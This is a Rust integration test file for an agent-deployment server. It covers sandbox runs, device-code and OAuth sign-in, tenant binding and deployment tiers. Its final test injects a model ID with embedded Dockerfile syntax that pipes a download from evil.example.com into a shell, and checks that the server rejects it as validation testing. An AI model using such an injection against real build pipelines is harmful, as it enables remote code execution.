//! End-to-end request flows over counting stubs

use launchpad_server::{build_handler, Envelope, Ports, RequestHandler};
use launchpad_test_utils::{
    principal, test_config, CountingProvisioner, StubCodeExchange, StubContainerRuntime,
    StubDelegation, StubDeviceApi, StubManagedCli,
};
use pretty_assertions::assert_eq;
use serde_json::{json, Value};
use std::sync::Arc;

struct Harness {
    handler: RequestHandler,
    container: Arc<StubContainerRuntime>,
    managed: Arc<StubManagedCli>,
    device: Arc<StubDeviceApi>,
    exchange: Arc<StubCodeExchange>,
    shared: Arc<CountingProvisioner>,
    tenant: Arc<CountingProvisioner>,
    delegated: Arc<CountingProvisioner>,
    delegation: Arc<StubDelegation>,
}

impl Harness {
    fn new() -> Self {
        Self::with(
            StubDeviceApi::approving_after(1, principal("sso-user")),
            StubDelegation::granting,
        )
    }

    fn with(
        device: StubDeviceApi,
        delegation: impl FnOnce(Arc<CountingProvisioner>) -> StubDelegation,
    ) -> Self {
        let container = Arc::new(StubContainerRuntime::answering("hi there\n"));
        let managed = Arc::new(StubManagedCli::answering(r#"{"result": "hello from the cloud"}"#));
        let device = Arc::new(device);
        let exchange = Arc::new(StubCodeExchange::accepting("code-123", principal("hosted-user")));
        let shared = Arc::new(CountingProvisioner::creating("arn:runtime/shared"));
        let tenant = Arc::new(CountingProvisioner::creating("arn:runtime/tenant"));
        let delegated = Arc::new(CountingProvisioner::creating("arn:runtime/user"));
        let delegation = Arc::new(delegation(delegated.clone()));

        let ports = Ports {
            container: container.clone(),
            managed: managed.clone(),
            device: device.clone(),
            exchange: Some(exchange.clone()),
            shared: shared.clone(),
            tenant: tenant.clone(),
            delegation: delegation.clone(),
        };
        Self {
            handler: build_handler(&test_config(), ports),
            container,
            managed,
            device,
            exchange,
            shared,
            tenant,
            delegated,
            delegation,
        }
    }

    async fn send(&self, request: Value) -> Envelope {
        self.handler.handle_json(&request.to_string()).await
    }

    async fn create_agent(&self, model_type: &str, model_id: &str) -> Value {
        let envelope = self
            .send(json!({
                "action": "create_agent",
                "agent_config": launchpad_test_utils::agent_config(model_type, model_id),
            }))
            .await;
        assert!(envelope.success, "{envelope:?}");
        envelope.data.unwrap()
    }

    async fn sign_in_with_device(&self, session_id: &str) {
        let started = self
            .send(json!({
                "action": "deploy",
                "session_id": session_id,
                "preference": "user_account",
            }))
            .await;
        assert!(started.success, "{started:?}");
        let poll = json!({
            "action": "auth_callback",
            "session_id": session_id,
            "auth_type": "device_code",
        });
        let first = self.send(poll.clone()).await;
        assert_eq!(first.error.unwrap().code, "auth_pending");
        let second = self.send(poll).await;
        assert!(second.success, "{second:?}");
    }
}

fn data(envelope: &Envelope) -> &Value {
    envelope.data.as_ref().expect("envelope carries data")
}

#[tokio::test]
async fn local_agent_passes_container_sandbox() {
    let harness = Harness::new();
    let agent = harness.create_agent("ollama", "llama3").await;
    assert_eq!(agent["model_family"], "local_container");

    let envelope = harness
        .send(json!({ "action": "test_agent", "agent": agent, "prompt": "hello" }))
        .await;

    assert!(envelope.success, "{envelope:?}");
    let body = data(&envelope);
    assert_eq!(body["environment"], "container_sandbox");
    assert_eq!(body["raw_response"], "hi there");
    assert_eq!(body["ready_for_deployment"], true);
    assert_eq!(envelope.next_steps, vec!["deploy".to_string()]);

    assert_eq!(harness.container.run_count(), 1);
    assert_eq!(harness.container.teardown_count(), 1);
    let run = &harness.container.run_requests()[0];
    assert_eq!(run.args, vec!["hello".to_string()]);
    assert!(run.env.contains(&("OLLAMA_MODEL".to_string(), "llama3".to_string())));
    assert!(harness.managed.calls().is_empty());
}

#[tokio::test]
async fn failed_container_run_is_reported_and_torn_down() {
    let container = Arc::new(StubContainerRuntime::exiting(3, "model not found"));
    let config = test_config();
    let ports = Ports {
        container: container.clone(),
        managed: Arc::new(StubManagedCli::answering("")),
        device: Arc::new(StubDeviceApi::denying()),
        exchange: None,
        shared: Arc::new(CountingProvisioner::creating("a")),
        tenant: Arc::new(CountingProvisioner::creating("b")),
        delegation: Arc::new(StubDelegation::refusing()),
    };
    let handler = build_handler(&config, ports);
    let agent = launchpad_test_utils::local_agent();

    let envelope = handler
        .handle(launchpad_server::Request::TestAgent {
            agent,
            prompt: "hello".into(),
        })
        .await;

    assert!(!envelope.success);
    assert_eq!(envelope.error.as_ref().unwrap().code, "sandbox_failure");
    assert_eq!(data(&envelope)["ready_for_deployment"], false);
    assert_eq!(container.teardown_count(), 1);
}

#[tokio::test]
async fn managed_agent_runs_configure_launch_invoke() {
    let harness = Harness::new();
    let agent = harness.create_agent("bedrock", "anthropic.claude-3-haiku").await;

    let envelope = harness
        .send(json!({ "action": "test_agent", "agent": agent, "prompt": "hello" }))
        .await;

    assert!(envelope.success, "{envelope:?}");
    assert_eq!(data(&envelope)["environment"], "managed_sandbox");
    let steps: Vec<String> = harness.managed.calls().iter().map(|c| c[0].clone()).collect();
    assert_eq!(steps, vec!["configure", "launch", "invoke"]);
    assert_eq!(harness.container.run_count(), 0);
}

#[tokio::test]
async fn unrecognized_family_never_reaches_a_sandbox() {
    let harness = Harness::new();
    let mut agent = harness.create_agent("ollama", "llama3").await;
    agent["model_family"] = json!("gpt");

    let envelope = harness
        .send(json!({ "action": "test_agent", "agent": agent, "prompt": "hello" }))
        .await;

    assert_eq!(envelope.error.unwrap().code, "unsupported_model_type");
    assert_eq!(harness.container.run_count(), 0);
    assert!(harness.managed.calls().is_empty());
}

#[tokio::test]
async fn create_agent_rejects_unknown_model_type() {
    let harness = Harness::new();
    let envelope = harness
        .send(json!({
            "action": "create_agent",
            "agent_config": launchpad_test_utils::agent_config("gpt", "x"),
        }))
        .await;
    assert!(!envelope.success);
    assert_eq!(envelope.error.unwrap().code, "invalid_config");
}

#[tokio::test]
async fn deploy_without_preference_lists_both_options() {
    let harness = Harness::new();
    let envelope = harness
        .send(json!({ "action": "deploy", "session_id": "menu-1" }))
        .await;

    assert!(envelope.success);
    let body = data(&envelope);
    assert_eq!(body["kind"], "options");
    let options = body["menu"]["options"].as_array().unwrap();
    assert_eq!(options.len(), 2);
    let actions: Vec<&str> = options.iter().map(|o| o["action"].as_str().unwrap()).collect();
    assert_eq!(actions, vec!["device_code_login", "hosted_login"]);

    // no flow picked, so no session was created
    let status = harness
        .send(json!({ "action": "session_status", "session_id": "menu-1" }))
        .await;
    assert_eq!(status.error.unwrap().code, "session_not_found");
    assert_eq!(harness.device.registrations.load(std::sync::atomic::Ordering::SeqCst), 0);
}

#[tokio::test]
async fn deploy_generates_session_id_when_absent() {
    let harness = Harness::new();
    let envelope = harness
        .send(json!({ "action": "deploy", "preference": "managed_tenant" }))
        .await;
    let session_id = data(&envelope)["session_id"].as_str().unwrap().to_string();
    assert!(!session_id.is_empty());

    let status = harness
        .send(json!({ "action": "session_status", "session_id": session_id }))
        .await;
    assert_eq!(data(&status)["auth_state"], "pending");
}

#[tokio::test]
async fn device_flow_polls_until_authenticated() {
    let harness = Harness::new();
    let started = harness
        .send(json!({ "action": "deploy", "session_id": "dev-1", "preference": "user_account" }))
        .await;
    let challenge = &data(&started)["challenge"];
    assert_eq!(challenge["auth_type"], "device_code");
    assert_eq!(challenge["user_code"], "ABCD-EFGH");
    assert_eq!(
        challenge["message"],
        "Go to https://device.example.com and enter code: ABCD-EFGH"
    );
    assert_eq!(started.next_steps, vec!["auth_callback".to_string()]);

    let poll = json!({
        "action": "auth_callback",
        "session_id": "dev-1",
        "auth_type": "device_code",
    });
    let pending = harness.send(poll.clone()).await;
    assert!(!pending.success);
    assert_eq!(data(&pending)["status"], "pending");
    assert!(pending.error.unwrap().retryable);

    let done = harness.send(poll.clone()).await;
    assert!(done.success, "{done:?}");
    assert_eq!(data(&done)["status"], "authenticated");
    assert_eq!(data(&done)["principal"]["user_id"], "sso-user");

    // polling again returns the stored identity without a provider call
    let again = harness.send(poll).await;
    assert!(again.success);
    assert_eq!(harness.device.token_request_count(), 2);

    let status = harness
        .send(json!({ "action": "session_status", "session_id": "dev-1" }))
        .await;
    let raw = serde_json::to_string(&status).unwrap();
    assert!(!raw.contains("sso-access-token"));
    assert!(!raw.contains("client-secret"));
    assert_eq!(data(&status)["auth_state"], "authenticated");
}

#[tokio::test]
async fn hosted_flow_then_tenant_deployment() {
    let harness = Harness::new();
    let started = harness
        .send(json!({ "action": "deploy", "session_id": "web-1", "preference": "managed_tenant" }))
        .await;
    let url = data(&started)["challenge"]["authorization_url"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(url.starts_with("https://auth.example.com/oauth2/authorize?"));
    assert!(url.contains("state=web-1"));
    assert!(url.contains("response_type=code"));

    let done = harness
        .send(json!({
            "action": "auth_callback",
            "session_id": "web-1",
            "auth_type": "auth_code",
            "evidence": { "code": "code-123", "state": "web-1" },
        }))
        .await;
    assert!(done.success, "{done:?}");
    assert_eq!(data(&done)["principal"]["email"], "hosted-user@example.com");
    assert_eq!(harness.exchange.exchange_count(), 1);

    let agent = harness.create_agent("ollama", "llama3").await;
    let deployed = harness
        .send(json!({
            "action": "execute_deployment",
            "session_id": "web-1",
            "agent": agent,
            "target": { "tier": "managed_tenant" },
        }))
        .await;
    assert!(deployed.success, "{deployed:?}");
    assert_eq!(
        data(&deployed)["endpoint"],
        "https://agents.example.com/agents/hosted-user/helper"
    );

    let requests = harness.tenant.requests();
    assert_eq!(requests.len(), 1);
    assert_eq!(requests[0].runtime_name, "hosted_user_helper");
    assert_eq!(requests[0].network_mode, "PUBLIC");
    assert_eq!(requests[0].tags["TenantId"], "hosted-user");
    assert_eq!(requests[0].tags["UserId"], "hosted-user");
    assert_eq!(requests[0].tags["UserEmail"], "hosted-user@example.com");
    assert_eq!(harness.shared.call_count(), 0);
}

#[tokio::test]
async fn tenant_deployment_is_bound_to_the_signed_in_user() {
    let harness = Harness::new();
    harness
        .send(json!({ "action": "deploy", "session_id": "web-3", "preference": "managed_tenant" }))
        .await;
    let done = harness
        .send(json!({
            "action": "auth_callback",
            "session_id": "web-3",
            "auth_type": "auth_code",
            "evidence": { "code": "code-123", "state": "web-3" },
        }))
        .await;
    assert!(done.success, "{done:?}");
    let agent = harness.create_agent("ollama", "llama3").await;

    let envelope = harness
        .send(json!({
            "action": "execute_deployment",
            "session_id": "web-3",
            "agent": agent.clone(),
            "target": { "tier": "managed_tenant", "tenant_id": "victim" },
        }))
        .await;
    assert!(!envelope.success);
    assert_eq!(envelope.error.unwrap().code, "invalid_config");
    assert_eq!(harness.tenant.call_count(), 0);

    // naming its own tenant explicitly is fine
    let envelope = harness
        .send(json!({
            "action": "execute_deployment",
            "session_id": "web-3",
            "agent": agent,
            "target": { "tier": "managed_tenant", "tenant_id": "hosted-user" },
        }))
        .await;
    assert!(envelope.success, "{envelope:?}");
    assert_eq!(harness.tenant.requests()[0].runtime_name, "hosted_user_helper");
}

#[tokio::test]
async fn mismatched_state_fails_the_session() {
    let harness = Harness::new();
    harness
        .send(json!({ "action": "deploy", "session_id": "web-2", "preference": "managed_tenant" }))
        .await;
    let done = harness
        .send(json!({
            "action": "auth_callback",
            "session_id": "web-2",
            "auth_type": "auth_code",
            "evidence": { "code": "code-123", "state": "someone-else" },
        }))
        .await;
    assert!(!done.success);
    assert_eq!(data(&done)["reason"], "state mismatch");
    assert_eq!(harness.exchange.exchange_count(), 0);

    let reset = harness
        .send(json!({ "action": "reset_session", "session_id": "web-2" }))
        .await;
    assert!(reset.success);
    assert_eq!(data(&reset)["auth_state"], "unauthenticated");
}

#[tokio::test]
async fn callback_with_wrong_flow_is_rejected() {
    let harness = Harness::new();
    harness
        .send(json!({ "action": "deploy", "session_id": "dev-2", "preference": "user_account" }))
        .await;
    let envelope = harness
        .send(json!({
            "action": "auth_callback",
            "session_id": "dev-2",
            "auth_type": "auth_code",
            "evidence": { "code": "code-123" },
        }))
        .await;
    assert_eq!(envelope.error.unwrap().code, "auth_type_mismatch");
}

#[tokio::test]
async fn user_account_deploy_needs_authentication() {
    let harness = Harness::new();
    let agent = harness.create_agent("ollama", "llama3").await;
    let envelope = harness
        .send(json!({
            "action": "execute_deployment",
            "session_id": "nobody",
            "agent": agent,
            "target": {
                "tier": "user_account",
                "role_arn": "arn:aws:iam::123456789012:role/deployer",
                "external_id": "ext",
            },
        }))
        .await;

    let error = envelope.error.unwrap();
    assert_eq!(error.code, "not_authenticated");
    assert!(error.message.contains("nobody"));
    assert_eq!(harness.delegation.open_count(), 0);
    assert_eq!(harness.delegated.call_count(), 0);
    assert_eq!(harness.shared.call_count(), 0);
    assert_eq!(harness.tenant.call_count(), 0);
}

#[tokio::test]
async fn user_account_assume_failure_skips_runtime_api() {
    let harness = Harness::with(
        StubDeviceApi::approving_after(1, principal("sso-user")),
        |_| StubDelegation::refusing(),
    );
    harness.sign_in_with_device("dev-3").await;
    let agent = harness.create_agent("bedrock", "anthropic.claude-3-haiku").await;

    let envelope = harness
        .send(json!({
            "action": "execute_deployment",
            "session_id": "dev-3",
            "agent": agent,
            "target": {
                "tier": "user_account",
                "role_arn": "arn:aws:iam::123456789012:role/deployer",
                "external_id": "ext",
            },
        }))
        .await;

    assert!(!envelope.success);
    let reason = data(&envelope)["error"].as_str().unwrap();
    assert!(reason.contains("assume"), "{reason}");
    assert_eq!(envelope.error.unwrap().code, "deployment_failure");
    assert_eq!(harness.delegation.open_count(), 1);
    assert_eq!(harness.delegated.call_count(), 0);
    assert_eq!(harness.shared.call_count(), 0);
    assert_eq!(harness.tenant.call_count(), 0);
}

#[tokio::test]
async fn user_account_deploys_with_delegated_role() {
    let harness = Harness::new();
    harness.sign_in_with_device("dev-4").await;
    let agent = harness.create_agent("ollama", "llama3").await;

    let envelope = harness
        .send(json!({
            "action": "execute_deployment",
            "session_id": "dev-4",
            "agent": agent,
            "target": {
                "tier": "user_account",
                "role_arn": "arn:aws:iam::123456789012:role/deployer",
                "external_id": "ext",
            },
        }))
        .await;

    assert!(envelope.success, "{envelope:?}");
    let requests = harness.delegated.requests();
    assert_eq!(requests.len(), 1);
    assert_eq!(requests[0].runtime_name, "helper_production");
    assert_eq!(
        requests[0].execution_role_arn,
        "arn:aws:iam::123456789012:role/LaunchpadAgentExecution"
    );
}

#[tokio::test]
async fn shared_platform_deploys_without_session() {
    let harness = Harness::new();
    let agent = harness.create_agent("ollama", "llama3").await;
    let envelope = harness
        .send(json!({
            "action": "execute_deployment",
            "agent": agent,
            "target": { "tier": "shared_platform" },
        }))
        .await;

    assert!(envelope.success, "{envelope:?}");
    assert_eq!(data(&envelope)["runtime_handle"], "arn:runtime/shared");
    let requests = harness.shared.requests();
    assert_eq!(requests[0].runtime_name, "u_1_helper");
    assert_eq!(
        requests[0].container_uri,
        "registry.example.com/agents/agent-u-1-helper:latest"
    );
}

#[tokio::test]
async fn denied_device_flow_can_be_reset() {
    let harness = Harness::with(StubDeviceApi::denying(), StubDelegation::granting);
    harness
        .send(json!({ "action": "deploy", "session_id": "dev-5", "preference": "user_account" }))
        .await;
    let poll = json!({
        "action": "auth_callback",
        "session_id": "dev-5",
        "auth_type": "device_code",
    });
    let failed = harness.send(poll.clone()).await;
    assert_eq!(failed.error.unwrap().code, "auth_failed");

    let again = harness.send(poll).await;
    assert_eq!(again.error.unwrap().code, "auth_failed");
    assert_eq!(harness.device.token_request_count(), 1);

    let reset = harness
        .send(json!({ "action": "reset_session", "session_id": "dev-5" }))
        .await;
    assert_eq!(data(&reset)["auth_state"], "unauthenticated");

    let restarted = harness
        .send(json!({ "action": "deploy", "session_id": "dev-5", "preference": "user_account" }))
        .await;
    assert!(restarted.success);
}

#[tokio::test]
async fn malformed_requests_get_invalid_config() {
    let harness = Harness::new();

    let envelope = harness.handler.handle_json("{not json").await;
    assert_eq!(envelope.action, "unknown");
    assert_eq!(envelope.error.unwrap().code, "invalid_config");

    let envelope = harness.send(json!({ "action": "test_agent", "prompt": "hi" })).await;
    assert_eq!(envelope.action, "test_agent");
    assert_eq!(envelope.error.unwrap().code, "invalid_config");
}

#[tokio::test]
async fn image_build_failure_still_tears_down() {
    let container = Arc::new(StubContainerRuntime::failing_build("pull access denied for ollama"));
    let ports = Ports {
        container: container.clone(),
        managed: Arc::new(StubManagedCli::answering("")),
        device: Arc::new(StubDeviceApi::denying()),
        exchange: None,
        shared: Arc::new(CountingProvisioner::creating("a")),
        tenant: Arc::new(CountingProvisioner::creating("b")),
        delegation: Arc::new(StubDelegation::refusing()),
    };
    let handler = build_handler(&test_config(), ports);

    let envelope = handler
        .handle(launchpad_server::Request::TestAgent {
            agent: launchpad_test_utils::local_agent(),
            prompt: "hello".into(),
        })
        .await;

    assert!(!envelope.success);
    assert!(data(&envelope)["error"].as_str().unwrap().contains("pull access denied"));
    assert_eq!(container.run_count(), 0);
    assert_eq!(container.teardown_count(), 1);
}

#[tokio::test]
async fn unwritable_scratch_still_yields_a_test_report() {
    let container = Arc::new(StubContainerRuntime::answering("hi there\n"));
    let scratch_parent = tempfile::NamedTempFile::new().unwrap();
    let mut config = test_config();
    config.sandbox.scratch_root = Some(scratch_parent.path().join("nested"));
    let ports = Ports {
        container: container.clone(),
        managed: Arc::new(StubManagedCli::answering("")),
        device: Arc::new(StubDeviceApi::denying()),
        exchange: None,
        shared: Arc::new(CountingProvisioner::creating("a")),
        tenant: Arc::new(CountingProvisioner::creating("b")),
        delegation: Arc::new(StubDelegation::refusing()),
    };
    let handler = build_handler(&config, ports);

    let envelope = handler
        .handle(launchpad_server::Request::TestAgent {
            agent: launchpad_test_utils::local_agent(),
            prompt: "hello".into(),
        })
        .await;

    assert!(!envelope.success);
    assert_eq!(envelope.error.as_ref().unwrap().code, "sandbox_failure");
    let body = data(&envelope);
    assert_eq!(body["ready_for_deployment"], false);
    assert_eq!(body["environment"], "container_sandbox");
    assert!(body["error"].as_str().unwrap().contains("scratch directory"));
    assert_eq!(container.run_count(), 0);
}

#[tokio::test]
async fn model_id_with_recipe_syntax_never_reaches_a_sandbox() {
    let harness = Harness::new();
    let mut agent = harness.create_agent("ollama", "llama3").await;
    agent["model_id"] = json!("llama3\nRUN curl https://evil.example.com | sh");

    let envelope = harness
        .send(json!({ "action": "test_agent", "agent": agent, "prompt": "hello" }))
        .await;

    assert_eq!(envelope.error.unwrap().code, "invalid_config");
    assert_eq!(harness.container.run_count(), 0);
    assert!(harness.managed.calls().is_empty());
}
